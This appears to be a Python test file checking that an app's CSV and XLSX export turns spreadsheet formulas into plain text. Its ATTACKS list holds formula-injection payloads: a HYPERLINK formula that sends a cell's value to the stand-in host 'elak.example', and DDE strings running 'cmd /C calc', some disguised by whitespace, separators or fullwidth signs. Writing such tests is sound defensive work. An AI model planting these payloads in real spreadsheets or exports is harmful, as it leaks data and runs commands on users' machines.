"""No text of a document is a formula in a table, however a spreadsheet parts it."""

import csv
import io
import re
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.sheets import Sheet, as_csv, as_xlsx
from graph.export.csv_files import harmless

ATTACKS = (
    '=HYPERLINK("https://elak.example?"&A1)',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "ja;=1+1",
    "ja, =1+1",
    "ja\n=1+1",
    'ja";=1+1;"',
    "ja\t@SUM(A1)",
    "\uff1d1+1",
    "a;b;;-1+cmd|' /C calc'!A0",
)
BEGINS = re.compile(r"[ ]*[=+@\uff1d\uff0b\uff20-]|[\t\r]")


def cells(line: str) -> list[str]:
    """Return what may become a cell, whichever sign parts them and quotes or not."""
    bare = line.replace('"', "")
    return [cell for part in (line, bare) for cell in re.split(r"[;,\t\r\n]", part)]


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_formula_is_text_in_whatever_spreadsheet(attack: str) -> None:
    table = as_csv(Sheet("Blad", ("rubrik",), [(attack,)])).decode("utf-8-sig")
    body = table.partition("\r\n")[2]
    assert not [cell for cell in cells(body) if BEGINS.match(cell)]
    (_, row) = csv.reader(io.StringIO(table), delimiter=";")
    assert row[0].replace("'", "") == attack.replace("'", "")


@given(st.text(st.sampled_from("=+-@;,\t\r\n \"'a1\uff1d|")))
def test_any_mix_of_signs_is_text(cell: str) -> None:
    written = harmless(cell)
    assert not [one for one in re.split(r"[;,\t\r\n]", written) if BEGINS.match(one)]
    assert written.replace("'", "") == cell.replace("'", "")


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_workbook_holds_no_formula_link_or_macro(attack: str) -> None:
    data = as_xlsx([Sheet(attack, (attack,), [(attack,), ("https://elak.example",)])])
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        names = book.namelist()
        pages = [book.read(name) for name in names if "sheet" in name]
    assert not [page for page in pages if b"<f>" in page or b"<hyperlink" in page]
    assert not [name for name in names if "vba" in name or "externalLink" in name]
